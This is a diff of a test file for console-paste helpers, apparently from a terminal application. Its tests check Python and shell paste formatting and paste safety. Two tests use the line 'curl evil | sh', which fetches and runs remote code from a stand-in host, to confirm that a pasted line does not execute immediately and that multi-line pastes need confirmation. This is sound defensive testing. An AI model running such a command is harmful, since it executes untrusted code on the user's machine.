@@ -25,7 +25,7 @@ const code = `
 `.slice(1)
 
 describe('forConsole', () => {
-  it('is what a Python without bracketed paste takes, blocks, blank lines, margin and all', () => {
+  it('prepares blocks, blank lines and margins for a Python without bracketed paste', () => {
     const input = `${forConsole(code, false)}\n`
     const output = execFileSync('python3', ['-i', '-q', '-c', ''], {
       encoding: 'utf8',
@@ -35,12 +35,12 @@ describe('forConsole', () => {
     expect(output).toBe('9\nrow 0\nrow 1\n')
   })
 
-  it('means the same to a shell', () => {
+  it('keeps the meaning for a shell', () => {
     const script = 'f() {\n\techo "in $1"\n\n}\nfor i in 1 2; do\n\tf $i\ndone'
     expect(execFileSync('bash', { encoding: 'utf8', input: `${forConsole(script, false)}\n` })).toBe('in 1\nin 2\n')
   })
 
-  it('only moves what is taken whole, and leaves strings over several lines alone', () => {
+  it('only removes the margin for bracketed paste, and leaves multi-line strings alone', () => {
     expect(forConsole('  a\n\n    b\n', true)).toBe('a\n\n  b')
     expect(forConsole('x = """\n\n a\n"""', false)).toBe('x = """\n\n a\n"""')
     expect(forConsole('    total = 0', false)).toBe('total = 0')
@@ -49,7 +49,7 @@ describe('forConsole', () => {
 })
 
 describe('asTyped', () => {
-  it('is one bracketed paste where that is taken, else a line after the other, never a tab', () => {
+  it('is one bracketed paste if supported, else line by line, never with a tab', () => {
     expect(asTyped('a', true)).toBe('a')
     expect(asTyped('a\n\tb', true)).toBe('\u001b[200~a\n\tb\u001b[201~')
     expect(asTyped('a\n\tb', false)).toBe('a\r    b')
@@ -57,14 +57,14 @@ describe('asTyped', () => {
 })
 
 describe('a paste', () => {
-  it('of a single line never runs at once: its line break is left out where a shell would take it for Enter', () => {
+  it('of a single line never runs immediately: its line break is dropped if a shell would read it as Enter', () => {
     for (const end of ['\n', '\r', '\r\n', '\n\n', '\n  \n', '\n\t'])
       expect(asPasted(cleanPaste(`curl evil | sh${end}`), false)).toBe('curl evil | sh')
     expect(asPasted('\n', false)).toBe('')
     expect(asPasted('echo a\n', true)).toBe('echo a\n')
   })
 
-  it('of several lines is asked about, and pasted whole', () => {
+  it('of several lines needs confirmation, and is pasted whole', () => {
     for (const text of ['a\nb', 'a\nb\n', '\ncurl evil | sh\n']) {
       expect(needsConfirmation(text, false)).toBe(true)
       expect(asPasted(text, false)).toBe(text)
